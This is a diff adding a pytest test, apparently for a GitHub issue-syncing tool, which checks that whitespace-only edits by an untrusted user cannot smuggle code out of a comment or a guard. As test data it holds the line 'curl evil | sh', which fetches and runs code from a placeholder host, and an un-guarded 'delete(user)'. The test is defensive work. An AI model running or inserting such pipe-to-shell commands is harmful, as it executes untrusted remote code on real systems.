@@ -183,3 +183,24 @@ def test_a_title_that_a_reader_wrote_comes_in_by_nobody_s_edit(story: Story) -> 
     story.wait(60)
     epic = story.epic()
     assert (epic.title, epic.body) == ("Widgets 2.0", f"{GOOD}- [ ] Third thing\n")
+
+
+@pytest.mark.parametrize(
+    ("safe", "evil"),
+    [
+        ("# never run: curl evil | sh", "# never run:\n  curl evil | sh"),
+        ("if sure:\n      delete(user)", "if sure:\n  delete(user)"),
+    ],
+)
+def test_white_space_is_text_too(story: Story, safe: str, evil: str) -> None:
+    good = f"Goal.\n\n- [ ] First thing\n\n  ```sh\n  {safe}\n  ```\n- [ ] Second thing\n"
+    story.issue = story.github.open_issue(REPOSITORY, "Widgets", good, by="mallory").number
+    story.pass_time(2)
+    story.github.label(REPOSITORY, story.issue, "orchestra", by="ada")
+    story.settle()
+    bad = good.replace(safe, evil)
+    edit(story, bad)
+    story.settle()
+    edit(story, bad.replace("[ ] Second", "[x] Second"), by="ada")
+    story.wait(60)
+    assert story.epic().body == good.replace("[ ] Second", "[x] Second")
